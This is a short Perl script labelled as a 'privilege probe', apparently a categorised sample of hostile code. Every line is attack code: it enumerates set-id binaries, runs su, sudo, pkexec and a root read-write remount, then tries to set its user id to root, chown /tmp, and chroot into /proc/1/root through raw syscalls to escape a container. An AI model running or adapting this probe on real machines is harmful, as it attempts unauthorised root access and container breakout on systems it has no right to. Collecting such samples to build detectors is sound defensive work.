# class: privilege probe; possible: low medium; style: perl, seeks set-id programs and runs what it knows
use strict;
use warnings;
my @found;
for my $dir (qw(/bin /sbin /usr/bin /usr/sbin /usr/local/bin /usr/lib)) {
    opendir my $d, $dir or next;
    for my $name (readdir $d) {
        my $mode = (stat "$dir/$name")[2] or next;
        push @found, "$dir/$name" if -f _ && $mode & 06000;
    }
}
print "$_\n" for @found;
for my $try (['/usr/bin/su', '-c', 'id'], ['/usr/bin/sudo', '-n', '-l'], ['/usr/bin/pkexec', 'id'], ['/usr/bin/mount', '-o', 'remount,rw', '/']) {
    next unless -x $try->[0];
    my $pid = fork() // next;
    if (!$pid) { open STDIN, '<', '/etc/hostname'; exec @$try; exit 1 }
    waitpid $pid, 0;
}
$< = $> = 0;
print "uid $< $>\n";
chown 0, 0, '/tmp' or print "chown: $!\n";
syscall(105, 0);
syscall(161, "/proc/1/root\0");
